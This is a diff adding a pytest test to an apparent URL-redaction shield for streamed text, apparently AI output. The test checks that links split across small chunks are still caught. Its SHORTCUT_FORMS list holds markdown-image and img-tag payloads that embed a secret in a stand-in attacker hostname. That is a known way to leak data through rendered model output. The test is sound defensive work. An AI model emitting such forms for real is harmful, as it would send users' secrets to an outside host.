@@ -432,6 +432,43 @@ def test_streams_find_what_whole_texts_find_and_hold_only_open_urls(
     )
 
 
+# URLs whose start ("https:", "//", "\\\\", "www.") is followed by more than five characters
+# that are none of ":./\\" (the scanner looks back five for a start still forming), so that
+# a stream of one character a token feeds many tokens without them right after the start.
+SHORTCUT_FORMS = [
+    "![img](https:attackerhost" + SECRET + ".test/p)",
+    "![img](//attackerhost" + SECRET + ".test/p)",
+    "![img](\\\\attackerhost" + SECRET + ".test/p)",
+    "see www" + "." + "attackerhost" + SECRET + ".test now",
+    "<img src=https://attackerhost" + SECRET + ".test>",
+]
+
+
+@pytest.mark.parametrize("form", SHORTCUT_FORMS)
+@pytest.mark.parametrize("size", [1, 2, 3, 5])
+def test_tokens_without_a_start_character_skip_the_search_and_miss_no_url(
+    form: str, size: int
+) -> None:
+    """A token with none of ":./\\" ends no URL start, so the scanner does not search it
+    (most tokens of prose): a start completed by its last character ("/" of "//", "\\",
+    ":" of "https:") is found in that token, not lost behind the tokens without one that
+    follow it. Had the shortcut left one of the four characters out, the start would fall
+    behind the look-back and the URL would leave whole."""
+    text = f"intro {form} outro"
+    policy = links_policy(holdback=160, images="redact", links="redact")
+    whole = [(f.start, f.end, f.label) for f in check_text(policy.output_shields, text)]
+    assert whole, form  # each form is a URL the shield judges
+    scan = TextScan(policy.output_shields, holdback=160, adaptive=True)
+    found = []
+    for i in range(0, len(text), size):
+        safe = scan.safe_end
+        new = scan.feed(text[i : i + size])
+        assert all(f.start >= safe for f in new)
+        found += new
+    found += scan.finish()
+    assert sorted((f.start, f.end, f.label) for f in found) == sorted(whole)
+
+
 def test_prose_and_allowed_kinds_are_not_held() -> None:
     scan = TextScan(DEFAULT.output_shields, holdback=160, adaptive=True)
     text = "Here is [a link](https://example.com/some/long/path/" + "x" * 100
